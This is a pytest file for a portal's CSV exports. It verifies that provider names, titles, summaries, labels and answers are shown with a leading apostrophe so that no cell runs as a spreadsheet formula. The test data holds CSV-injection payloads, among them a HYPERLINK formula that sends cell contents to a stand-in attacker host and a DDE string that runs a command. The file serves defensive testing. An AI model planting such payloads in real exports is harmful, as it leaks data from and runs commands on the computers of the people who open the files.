"""CSV injection: no cell of any CSV the portal writes runs as a formula in a spreadsheet.

Formula-like text (``=HYPERLINK(...)``, ``+1+1``, ``@SUM(A1)``, a leading tab, CR, LF or
space before ``=``, ...) is put everywhere a CSV shows text the portal did not write
itself: provider names, request and publication titles, summaries, field labels and
answers. Every public CSV URL (found in the URL map, so a new one is not forgotten) and
the staff exports must show it with a leading ``'``, while a genuine number stays a
number.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from portal.extensions import db
from portal.models import FieldType, RequestField

# Text answers: a field each, all answered by every provider.
ANSWERS = {
    "hyperlink": '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1",
    "cr": "\r=1",
    "lf": "\n=1",
    "space": " =1",
    "spaces and tab": "  \t=1+1",
    "no-break space": "\u00a0=1+1",
    "zero-width space": "\u200b=1+1",
    "escape": "\x1b=1",
    "full-width": "\uff1d1+1",
}
# Text that looks like a formula's start but is a number: left alone.
NUMBERS_AS_TEXT = {"negative": "-12", "signed decimal": "+3,5", "negative decimal": "-0.5"}
EVIL_PROVIDERS = ['=HYPERLINK("https://angripare.example";"Omsorg AB")', "+1+1 Omsorg AB"]
TITLE = "=1+1 Kvalitetsredovisning"
PUBLICATION_TITLE = "@SUM(1) Svar"
SUMMARY = "-2+3 sammanfattning"
LABEL = "=1 Antal brukare"

_INVISIBLE = re.compile(r"^[\s\u200b-\u200f\u2060\ufeff]*")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet program would evaluate (an independent, conservative reading)."""
    if not cell or cell.startswith("'"):
        return False
    if ord(cell[0]) < 32 or ord(cell[0]) == 127:
        return True
    rest = _INVISIBLE.sub("", cell)
    if not rest:
        return False
    if ord(rest[0]) < 32:
        return True
    return rest[0] in "=+-@\uff1d\uff0b\uff0d\uff20" and not _NUMBER.fullmatch(rest)


def cells_of(response, delimiter: str) -> list[list[str]]:
    assert response.status_code == 200, response.request.path
    assert response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:], newline=""), delimiter=delimiter))


@pytest.fixture
def data(make):
    w = make.world()
    providers = [w.org_a]
    for name in EVIL_PROVIDERS:
        provider = make.provider(name)
        make.agreement(provider, w.area_x)
        providers.append(provider)
    texts = {**ANSWERS, **NUMBERS_AS_TEXT}
    fields = [
        RequestField(position=i, label=f"Fråga {name}", type=FieldType.TEXT)
        for i, name in enumerate(texts, 1)
    ]
    fields += [
        RequestField(position=len(fields) + 1, label=LABEL, type=FieldType.NUMBER, unit="st"),
        RequestField(position=len(fields) + 2, label="Förändring", type=FieldType.NUMBER),
    ]
    submissions = make.info_request(
        w.committee_x, providers, w.reviewer_x, service_area=w.area_x, title=TITLE, fields=fields
    )
    keys = [f.key for f in submissions[0].request.fields]
    answers = dict(zip(keys, [*texts.values(), "142", "-12"], strict=True))
    for submission in submissions:
        make.answered(submission, w.reviewer_x, answers)
        make.published(submission, w.publisher, title=PUBLICATION_TITLE, summary=SUMMARY)
    db.session.commit()
    w.request_id = submissions[0].request_id
    return w


def public_csv_urls(app, request_id: int) -> dict[str, str]:
    """Every public CSV route (site and API), as a URL: path → the dialect's separator."""
    out = {}
    for rule in app.url_map.iter_rules():
        if not rule.rule.endswith(".csv") or rule.endpoint.split(".")[0] not in ("public", "api"):
            continue
        assert set(rule.arguments) <= {"request_id"}, f"fill in the arguments of {rule.rule}"
        url = rule.rule.replace("<int:request_id>", str(request_id))
        out[url] = "," if rule.endpoint.startswith("api.") else ";"
    return out


def check(rows: list[list[str]], url: str, expected: list[str], numbers: list[str]) -> None:
    live = [c for row in rows for c in row if runs_as_formula(c)]
    assert not live, f"{url}: {live}"
    cells = {c for row in rows for c in row}
    for text in expected:
        assert "'" + text in cells, f"{url}: {text!r} not shown guarded"
    for number in numbers:
        assert number in cells, f"{url}: {number!r} not left a number"


def test_every_public_csv_guards_formulas(app, client, data):
    urls = public_csv_urls(app, data.request_id)
    assert set(urls) == {
        f"/jamfor/{data.request_id}.csv",
        "/api/v1/publications.csv",
        "/api/v1/providers.csv",
        f"/api/v1/comparisons/{data.request_id}.csv",
    }
    numbers = list(NUMBERS_AS_TEXT.values())
    expected = {
        f"/jamfor/{data.request_id}.csv": [*EVIL_PROVIDERS, *ANSWERS.values(), f"{LABEL} (st)"],
        f"/api/v1/comparisons/{data.request_id}.csv": [*EVIL_PROVIDERS, *ANSWERS.values()],
        "/api/v1/publications.csv": [*EVIL_PROVIDERS, PUBLICATION_TITLE, SUMMARY],
        "/api/v1/providers.csv": EVIL_PROVIDERS,
    }
    for url, delimiter in urls.items():
        rows = cells_of(client.get(url), delimiter)
        # Comparisons also carry the number answer -12 (a number field): still a number.
        check(rows, url, expected[url], numbers if "jamfor" in url or "comparisons" in url else [])
        if "jamfor" in url or "comparisons" in url:
            assert "-12" in {row[-3] for row in rows[1:]}, url
        if "/api/" in url:
            assert rows[0][0] in ("id", "provider_id")  # the machine dialect: "," between fields


def test_staff_exports_guard_formulas(app, client, data):
    client.login(data.reviewer_x)
    exports = {
        f"/handlaggare/begaranden/{data.request_id}?format=csv": [
            *EVIL_PROVIDERS,
            *ANSWERS.values(),
            f"{LABEL} (st)",
        ],
        "/handlaggare/utforare?format=csv": EVIL_PROVIDERS,
        "/handlaggare/arenden?status=alla&format=csv": [TITLE, *EVIL_PROVIDERS],
        "/handlaggare/begaranden?format=csv": [TITLE],
    }
    for url, expected in exports.items():
        rows = cells_of(client.get(url), ";")
        numbers = list(NUMBERS_AS_TEXT.values()) + ["-12"] if "begaranden/" in url else []
        check(rows, url, expected, numbers)


def test_the_guard_itself():
    from portal.csv_files import EXCEL, MACHINE, cell, guard

    for text in [*ANSWERS.values(), *EVIL_PROVIDERS, TITLE, "\x00=1", "\u202e=1", "-", "+"]:
        assert guard(text) == "'" + text, repr(text)
    for text in ["-12", "+3,5", "-0.5", "12", " -12", "Omsorg =1 AB", "", "  ", "a-b", "'=1"]:
        assert guard(text) == text, repr(text)
    from decimal import Decimal

    assert cell(Decimal("-12"), EXCEL) == "-12" and cell(Decimal("-3.50"), EXCEL) == "-3,5"
    assert cell(Decimal("-3.50"), MACHINE) == "-3.5" and cell(-0.5, MACHINE) == "-0.5"
    assert cell(True, MACHINE) == "true" and cell(None, EXCEL) == ""
